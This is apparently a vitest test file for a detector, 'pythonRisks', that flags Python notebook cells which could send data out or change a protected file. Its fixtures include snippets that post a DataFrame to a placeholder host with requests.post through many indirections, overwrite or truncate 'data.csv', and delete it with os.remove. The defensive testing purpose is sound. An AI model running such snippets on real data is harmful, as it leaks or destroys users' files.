import { expect, test } from "vitest";
import { pythonRisks } from "./python-risks.ts";

const TABLE = "import pandas as pd\ndf = pd.read_csv('data.csv')\nsecret = df.to_csv()";
const LEAK = "import requests\ndef leak(frame):\n    requests.post('x', data=frame.to_csv())";

function asks(code: string, ...others: readonly string[]): boolean {
  return pythonRisks(code, { files: new Set(["data.csv"]), others: [TABLE, ...others] }).length > 0;
}

test.each([
  ["send('http' + '://x', secret)", "import requests\ndef make():\n    return requests.post\nsend = make()"],
  [
    "client.get('http' + '://x/?' + secret)",
    "import requests\ndef make():\n    return requests.Session()\nclient = make()",
  ],
  ["sender(df)", LEAK, "sender = leak"],
  ["senders[0](df)", LEAK, "senders = [leak]"],
  ["senders['a'](df)", LEAK, "senders = {'a': leak}"],
  ["senders[0](df)", LEAK, "senders = []\nsenders.append(leak)"],
  ["df.apply(leak)", LEAK],
  ["send(df)", "import requests\nsend = lambda f: requests.post('x', data=f)"],
  ["hooks['a'](df)", "import requests\nhooks = {'a': lambda f: requests.post('x', data=f)}"],
  ["send()", LEAK, "import functools\nsend = functools.partial(leak, df)"],
  ["list(gen)", LEAK, "gen = (leak(f) for f in [df])"],
  ["s(df)", LEAK, "def gen():\n    yield leak\nfor s in gen():\n    pass"],
  [
    "send(df)",
    "import requests\ndef make():\n    def inner(f):\n        requests.post('x', data=f)\n    return inner\nsend = make()",
  ],
  ["a.send(df)", LEAK, "class A:\n    send = leak\na = A()"],
  ["a.head(df)", LEAK, "class A:\n    def __init__(self):\n        self.head = leak\na = A()"],
  ["a.head(df)", LEAK, "import types\na = types.SimpleNamespace(head=leak)"],
  ["df.head(df)", LEAK, "df.head = leak"],
  ["print(df)", LEAK, "print = leak"],
  ["a(df)", LEAK, "a, b = leak, 1"],
  ["a(df)", LEAK, "(a := leak)"],
  ["a(df)", LEAK, "for a, b in [(leak, 1)]:\n    pass"],
  ["a(df)", LEAK, "a = leak if df is not None else None"],
  [
    "total(df)",
    LEAK,
    "def dec(f):\n    def g(*a):\n        leak(*a)\n        return f(*a)\n    return g\n@dec\ndef total(f):\n    return 1",
  ],
  ["a.value", LEAK, "class A:\n    @property\n    def value(self):\n        leak(df)\na = A()"],
  ["log.write('x')", "log = open('data.csv', 'a')"],
  ["log.truncate()", "log = open('data.csv', 'r+')"],
  ["print('x', file=log)", "log = open('data.csv', 'a')"],
  ["log.write('x')", "from pathlib import Path\nlog = Path('data.csv').open('a')"],
  ["rows.writerow([1])", "import csv\nrows = csv.writer(open('data.csv', 'a'))"],
  ["df.to_excel(book)", "book = pd.ExcelWriter('data.csv')"],
  ["next(steps)", LEAK, "def walk():\n    yield 1\n    leak(df)\nsteps = walk()"],
  ["await later", LEAK, "async def wait():\n    leak(df)\nlater = wait()"],
  ["a.total?", LEAK, "class A:\n    @property\n    def total(self):\n        leak(df)\na = A()"],
])("what code that ran before kept can't be called without a question: %s", (code, ...others) => {
  expect(asks(code, ...others)).toBe(true);
});

test.each([
  ["sales.head()", "def load(url):\n    return pd.read_csv(url)\nsales = load('https://x.example/a.csv')"],
  ["sales.head()", "sales = pd.read_csv('https://x.example/a.csv')"],
  ["next(steps)", "def walk():\n    yield 1\nsteps = walk()"],
  ["text.upper()", "text = open('data.csv').read()"],
  ["clean(df).head()", "def clean(frame):\n    return frame.dropna()"],
  ["total(2)", LEAK, "total = lambda x: x * 2"],
  ["def area(leak):\n    return leak.sum()\narea(df)", LEAK],
  ["[leak.lower() for leak in ['a']]", LEAK],
  ["leak = 3\nprint(leak + 1)", LEAK],
  ["for leak in [1, 2]:\n    print(leak)", LEAK],
  ["with open('data.csv') as leak:\n    print(leak.read())", LEAK],
])("plain values of code that ran before, and names that the cell has itself, ask nothing: %s", (code, ...others) => {
  expect(asks(code, ...others)).toBe(false);
});

test.each([
  ["def f(x, leak=leak):\n    leak(x)\nf(df)", LEAK],
  ["if df is None:\n    leak = len\nleak(df)", LEAK],
  ["[leak(x) for x in [df]]", LEAK],
  ["[x(df) for x in [leak]]", LEAK],
  ["def f():\n    global leak\n    leak(df)\nf()\nleak = len", LEAK],
  ["def f():\n    leak(df)\nf()\nleak = len", LEAK],
  ["def f(np):\n    import os as np\n    np.remove('data.csv')\nf(1)"],
  ["try:\n    leak = len\nexcept NameError:\n    pass\nleak(df)", LEAK],
  ["(leak := len) if df is None else 0\nleak(df)", LEAK],
])("a name that the cell may not have bound yet stands for what other code bound it to: %s", (code, ...others) => {
  expect(asks(code, ...others)).toBe(true);
});
